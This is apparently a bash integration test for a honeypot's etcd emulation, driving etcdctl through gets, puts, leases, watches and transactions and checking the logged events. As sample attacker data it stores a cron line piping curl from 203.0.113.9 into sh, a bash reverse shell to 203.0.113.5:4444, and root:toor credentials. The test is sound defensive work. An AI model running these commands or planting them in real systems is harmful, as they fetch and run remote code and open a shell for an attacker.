#!/usr/bin/env bash
# etcdctl 3.4 (Debian's etcd-client) against the etcd emulation: gRPC over HTTP/2 (libnghttp2)
# on the same port as the JSON gateway and the v2 keys API. Lists the store, reads a secret,
# puts a key and reads it back, deletes it, authenticates, asks for the status, watches a prefix
# while leases are granted, used, kept alive and revoked and transactions run. Asserts what
# etcdctl printed and the events of each step.
set -euo pipefail
. "$(dirname "$0")/honeypot_lib.bash"
need etcdctl "apt-get install etcd-client"
need jq "apt-get install jq"
has() { grep "$@" >/dev/null; }

W=$(hp_workdir honeypot_etcd)
trap 'kill "${HP_PID:-0}" 2>/dev/null || true' EXIT
hp_start "$W" -- --etcd 0 --flush-ms 20
E=$(hp_port etcd)
export ETCDCTL_API=3
ec() { timeout 20 etcdctl --endpoints="127.0.0.1:$E" "$@"; }

keys=$(ec get / --prefix --keys-only | grep -v '^$') || fail "get --prefix"
echo "$keys" | has -x /registry/secrets/default/db-credentials || fail "keys: $keys"
ec get /registry/secrets/default/db-credentials --print-value-only | has '"password"' || fail "get secret"
[ "$(ec put /registry/cron/x '* * * * * root curl -s http://203.0.113.9/e | sh')" = OK ] || fail "put"
[ "$(ec get /registry/cron/x --print-value-only)" = '* * * * * root curl -s http://203.0.113.9/e | sh' ] || fail "put not visible to get"
[ "$(ec del /registry/cron/x)" = 1 ] || fail "del"
[ -z "$(ec get /registry/cron/x)" ] || fail "deleted key still there"
ec endpoint status | has '3.4.13' || fail "status"
# a watch held open sees what the same source puts from other connections
timeout 30 etcdctl --endpoints="127.0.0.1:$E" watch /registry/w --prefix >"$W/watch.out" 2>&1 & wpid=$!
for _ in $(seq 100); do grep -q '"etcd.watch"' "$W/events.jsonl" 2>/dev/null && break; sleep 0.05; done
grep -q '"etcd.watch"' "$W/events.jsonl" || fail "watch not opened"
# leases: grant, put with it, time to live with its keys, keep-alive, list, revoke (its key goes)
lease=$(ec lease grant 120 | awk '/granted with TTL\(120s\)/ {print $2}')
[ -n "$lease" ] || fail "lease grant"
[ "$(ec put --lease="$lease" /registry/w/leased 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')" = OK ] || fail "put --lease"
ec lease timetolive "$lease" --keys | has "lease $lease granted with TTL(120s), remaining(.*attached keys(\[/registry/w/leased\])" || fail "timetolive"
ec lease keep-alive --once "$lease" | has "lease $lease keepalived with TTL(120)" || fail "keep-alive"
ec lease list | has -x "$lease" || fail "lease list"
{ ec put --lease=1234abcd /registry/w/x y 2>&1 || true; } | has 'requested lease not found' || fail "put with an unknown lease"
# a transaction: the compare holds, the success branch runs
out=$(printf 'value("/registry/w/leased") = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"\n\nput /registry/w/txn won\n\nput /registry/w/txn lost\n\n' | ec txn) || fail "txn"
[ "$(echo "$out" | head -1)" = SUCCESS ] || fail "txn result: $out"
[ "$(ec get /registry/w/txn --print-value-only)" = won ] || fail "txn put"
out=$(printf 'version("/registry/w/none") > "0"\n\nput /registry/w/txn2 won\n\nput /registry/w/txn2 lost\n\n' | ec txn) || fail "txn 2"
[ "$(echo "$out" | head -1)" = FAILURE ] || fail "txn 2 result: $out"
[ "$(ec get /registry/w/txn2 --print-value-only)" = lost ] || fail "txn 2 put"
ec lease revoke "$lease" | has "lease $lease revoked" || fail "revoke"
[ -z "$(ec get /registry/w/leased)" ] || fail "key of a revoked lease still there"
for _ in $(seq 100); do grep -q '^DELETE' "$W/watch.out" && break; sleep 0.05; done
kill "$wpid" 2>/dev/null || true
wait "$wpid" 2>/dev/null || true
tr '\n' ' ' <"$W/watch.out" | has 'PUT /registry/w/leased bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 ' || fail "watch put: $(cat "$W/watch.out")"
tr '\n' ' ' <"$W/watch.out" | has 'PUT /registry/w/txn2 lost ' || fail "watch txn put: $(cat "$W/watch.out")"
tr '\n' ' ' <"$W/watch.out" | has 'DELETE /registry/w/leased ' || fail "watch delete: $(cat "$W/watch.out")"
ec --user root:toor get /x >/dev/null || fail "get with --user"
# curl still gets the HTTP/1 APIs on the same port
curl -sf "http://127.0.0.1:$E/version" | jq -e '.etcdserver == "3.4.13"' >/dev/null || fail "HTTP/1 /version"
hp_stop

[ "$(hp_count '.eventid=="etcd.kv.range" and .request.key=="/" and .request.range_end=="0"')" = 1 ] || fail "range event"
[ "$(hp_count '.eventid=="etcd.kv.put" and .request.key=="/registry/cron/x" and ((.request.value // "")|test("203.0.113.9")) and (.payload_sha256|length)==64')" = 1 ] || fail "put event"
[ "$(hp_count '.eventid=="etcd.kv.delete" and .request.key=="/registry/cron/x"')" = 1 ] || fail "delete event"
[ "$(hp_count '.eventid=="etcd.login" and .request.username=="root" and .request.password=="toor"')" = 1 ] || fail "auth event"
[ "$(hp_count '.eventid=="etcd.watch" and .request.key=="/registry/w" and .request.range_end=="/registry/x"')" = 1 ] || fail "watch event"
[ "$(hp_count '.eventid=="etcd.lease.grant" and .request.ttl==120')" = 1 ] || fail "lease grant event"
[ "$(hp_count '.eventid=="etcd.kv.put" and .request.key=="/registry/w/leased" and .request.lease=="'"$lease"'"')" = 1 ] || fail "put --lease event"
[ "$(hp_count '.eventid=="etcd.lease.revoke" and .request.lease=="'"$lease"'"')" = 1 ] || fail "revoke event"
[ "$(hp_count '.eventid=="etcd.kv.txn" and .request.succeeded==true and .request.compares[0].target=="value" and .request.compares[0].key=="/registry/w/leased"')" = 1 ] || fail "txn event"
[ "$(hp_count '.eventid=="etcd.kv.txn" and .request.succeeded==false and .request.compares[0].target=="version"')" = 1 ] || fail "txn 2 event"
[ "$(hp_count '.eventid=="etcd.kv.put" and .request.grpc=="/etcdserverpb.KV/Txn" and .request.key=="/registry/w/txn" and .request.value=="won"')" = 1 ] || fail "txn op event"
echo "ok: etcdctl $(hp_count '.service=="etcd" and (.eventid|startswith("session.")|not)') steps logged"
